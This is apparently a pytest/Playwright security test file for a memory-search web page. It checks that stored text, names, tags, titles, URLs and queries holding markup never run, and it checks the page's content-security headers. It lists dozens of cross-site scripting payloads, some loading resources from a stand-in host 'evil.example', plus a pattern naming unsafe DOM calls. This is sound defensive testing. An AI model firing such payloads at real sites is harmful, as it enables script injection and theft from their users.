"""What a memory says is shown and never run, wherever it stands, and the page's rules would forbid it anyway."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Browser, expect

import whyrank
from tests.e2e.conftest import STORE
from whyrank.interfaces.http.app import PAGE

from .site import Site, ask, opened, panel, serving, turn

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

SCRIPT = "<script>window.ran=1</script>"
IMAGE = "<img src=x onerror=window.ran=1>"
LINK = '"><a href="javascript:window.ran=1">x</a><svg/onload=window.ran=1>'
REMOTE = "<img src=http://evil.example/x.png><link rel=stylesheet href=//evil.example/x.css>"
NOTE = f"""---
title: "{IMAGE} gribble"
tags: ["{IMAGE}", "x'-alert(1)-'"]
---

# {SCRIPT} gribble

## {IMAGE}

The gribble says {SCRIPT} {IMAGE} {LINK} {REMOTE}
javascript:window.ran=1 {{{{constructor.constructor('window.ran=1')()}}}}
"""


# One payload a line: by tags, attributes, addresses, styles, drawings, templates and broken markup.
PAYLOADS = tuple("""
<script>window.ran=1</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=window.ran=1>
<img src=`x`onerror=window.ran=1>
<svg onload=window.ran=1>
<svg><script>window.ran=1</script></svg>
<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>
<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<iframe src=javascript:parent.ran=1></iframe>
<object data=javascript:window.ran=1></object>
<embed src=javascript:window.ran=1>
<a href=javascript:window.ran=1>click</a>
<a href="data:text/html,<script>window.ran=1</script>">click</a>
<form action=javascript:window.ran=1><button>go</button></form>
<button formaction=javascript:window.ran=1>go</button>
<input autofocus onfocus=window.ran=1>
<details open ontoggle=window.ran=1>
<video><source onerror=window.ran=1></video>
<audio src=x onerror=window.ran=1>
<body onload=window.ran=1>
<marquee onstart=window.ran=1>
<style>@import '//evil.example/x.css';*{background:url(//evil.example/x.png)}</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:window.ran=1">
<base href=//evil.example/>
<template><script>window.ran=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>">
</title></textarea></style></script><script>window.ran=1</script>
"><script>window.ran=1</script>
' onmouseover='window.ran=1
javascript:window.ran=1
{{constructor.constructor('window.ran=1')()}}
${window.ran=1}
<!--><script>window.ran=1</script>-->
<![CDATA[<script>window.ran=1</script>]]>
""".strip().splitlines())  # fmt: skip


@pytest.fixture(scope="module")
def armed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Serve a store with every payload in the text and the tags of a fact, and some as names, titles and headings."""
    folder = tmp_path_factory.mktemp("armed")
    (folder / "notes").mkdir()
    with whyrank.open(folder / STORE, workspace=folder, embedding="none") as memory:
        for begin in range(0, len(PAYLOADS), 12):
            some = PAYLOADS[begin : begin + 12]
            memory.add(f"gribble {begin} {' '.join(some)}", name=some[0], tags=some, entities=some)
            note = f"---\ntitle: {json.dumps(some[1])}\n---\n\n# {some[2]}\n\ngribble note: {' '.join(some)}\n"
            (folder / "notes" / f"note-{begin}.md").write_text(note, encoding="utf-8")
        memory.ingest(folder / "notes")
    with serving(folder, "--embedding", "none") as started:
        yield started


def test_no_payload_runs_as_text_name_tag_title_or_heading(browser: Browser, armed: Site) -> None:
    assert len(PAYLOADS) >= 30
    with opened(browser, armed, may_fail=True) as page:
        ask(page, "gribble")
        shown = page.locator("#hits").inner_text()
        missing = [payload for payload in PAYLOADS if payload not in shown]
        assert not missing, missing
        for title in page.locator("#hits h2 button").all():
            title.click()
            expect(page.locator("#memory [data-text]")).to_be_visible()
        page.wait_for_timeout(100)
        assert page.evaluate("() => window.ran") is None
        assert page.locator(FOREIGN).count() == 0


def test_no_payload_runs_as_a_question(browser: Browser, armed: Site) -> None:
    with opened(browser, armed, may_fail=True) as page:
        for payload in PAYLOADS:
            page.get_by_role("searchbox").fill(f"gribble {payload}")
            page.locator("#hits:not([aria-busy])").wait_for()
        page.wait_for_timeout(300)
        assert page.evaluate("() => window.ran") is None
        assert page.locator(FOREIGN).count() == 0


# Elements and attributes the page itself never makes inside its main part.
FOREIGN = (
    "main :is(script, img, a[href], link, iframe, object, embed, video, audio, style, meta, base, template, marquee,"
    " math), [onload], [onerror], [onfocus], [onmouseover], [ontoggle], [onbegin], [srcdoc]"
)


def test_hidden_characters_are_shown_in_texts_names_tags_and_titles(browser: Browser, tmp_path: Path) -> None:
    hidden = "\u202egnp.exe\u2066 zero\u200bwidth " + "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    with whyrank.open(tmp_path / STORE, workspace=tmp_path, embedding="none") as memory:
        memory.add(f"gribble {hidden}", name=f"name{hidden}", tags=[f"tag{hidden}"])
    with serving(tmp_path, "--embedding", "none") as site, opened(browser, site) as page:
        ask(page, "gribble")
        page.locator("#hits h2 button").first.click()
        expect(page.locator("#memory [data-text]")).to_be_visible()
        shown = page.evaluate("() => document.documentElement.innerText + document.title")
        assert "⟨U+202E⟩gnp.exe⟨U+2066⟩ zero⟨U+200B⟩width ⟨U+E006F⟩⟨U+E0062⟩⟨U+E0065⟩⟨U+E0079⟩" in shown
        assert not re.search("[\u202e\u2066\u200b\U000e0000-\U000e007f]", shown)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Serve a store full of markup."""
    folder = tmp_path_factory.mktemp("hostile")
    name = "<img src=x onerror=window.ran=1>.md"
    (folder / "notes").mkdir()
    (folder / "notes" / name).write_text(NOTE, encoding="utf-8")
    with whyrank.open(folder / STORE, workspace=folder, embedding="wordllama") as memory:
        memory.ingest(folder / "notes")
        old = memory.add(f"gribble {IMAGE} was", tags=[IMAGE])
        memory.add(f"gribble {SCRIPT} {LINK}", name=IMAGE, tags=[SCRIPT], supersedes=old.id)
    with serving(folder) as started:
        yield started


@pytest.mark.parametrize("query", ["gribble", f"gribble {IMAGE}", SCRIPT, LINK])
def test_markup_in_memories_and_questions_does_not_run(browser: Browser, hostile: Site, query: str) -> None:
    with opened(browser, hostile) as page:
        ask(page, query)
        for bar in page.locator("[data-part=bar]").all():
            bar.click()
        for box in page.get_by_role("checkbox").all()[:2]:
            box.check()
        turn(page, "ranking.vector_weight", 0.1)
        for title in page.locator("#hits h2 button").all():
            title.click()
            expect(page.locator("#memory [data-text]")).to_be_visible()
        for wanted in (IMAGE, "gribble"):
            panel(page, "Missing?")
            page.get_by_label("The memory you expected").fill(wanted)
            page.get_by_role("button", name="Where is it?").click()
            page.locator("#lost h3").first.wait_for()
        for name in ("Dropped", "Store", "Compare"):
            panel(page, name)
        page.wait_for_timeout(100)
        assert page.evaluate("() => window.ran") is None
        assert page.locator("main :is(script, img, a, link, iframe), [onload], [onerror]").count() == 0
        assert "gribble" in page.locator("#hits").inner_text()


def test_a_hostile_address_does_not_run(browser: Browser, hostile: Site) -> None:
    with opened(browser, hostile, "/?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.ran%3D1%3E%20gribble") as page:
        page.locator("#hits > li").first.wait_for()
        assert page.evaluate("() => window.ran") is None
        expect(page.get_by_role("searchbox")).to_have_value(f"{IMAGE} gribble")


def test_hostile_names_of_things_are_shown_as_they_are(browser: Browser, hostile: Site) -> None:
    with opened(browser, hostile) as page:
        ask(page, "gribble")
        shown = page.locator("#hits").inner_text()
        for text in (f"{IMAGE} gribble", f"#{SCRIPT}", "<img src=x onerror=window.ran=1>.md"):
            assert text in shown, json.dumps(shown)


def test_the_rules_of_the_page_forbid_what_it_does_not_bring(browser: Browser, site: Site) -> None:
    context = browser.new_context()
    page = context.new_page()
    answer = page.goto(site.at())
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    assert "style-src 'self';" in policy
    assert "unsafe" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    violated = page.evaluate(
        """() => new Promise(told => {
          document.addEventListener('securitypolicyviolation', event => told(event.effectiveDirective));
          const script = document.createElement('script');
          script.textContent = 'window.ran = 1';
          document.body.append(script);
        })"""
    )
    assert violated == "script-src-elem"
    assert page.evaluate("() => window.ran") is None
    context.close()


FILES = [*PAGE.rglob("*.js"), *PAGE.rglob("*.html"), *PAGE.rglob("*.css")]
FORBIDDEN = re.compile(
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|eval\(|new Function"
    r"|setAttribute\(\"style|\bstyle=|\bon\w+=\"|https?://(?!www\.w3\.org/2000/svg)|@import|\bclass="
)


@pytest.mark.parametrize("file", FILES, ids=lambda file: str(file.relative_to(PAGE)))
def test_no_file_of_the_page_reads_markup_or_reaches_out(file: Path) -> None:
    assert FORBIDDEN.findall(file.read_text(encoding="utf-8")) == []


def test_every_module_is_fetched_at_once_and_none_twice() -> None:
    """A browser that hears of a module only from another one waits for both."""
    page = (PAGE / "index.html").read_text(encoding="utf-8")
    named = re.findall(r'(?:href|src)="/page/([^"]+\.js)"', page)
    assert sorted(named) == sorted(file.relative_to(PAGE).as_posix() for file in PAGE.rglob("*.js"))
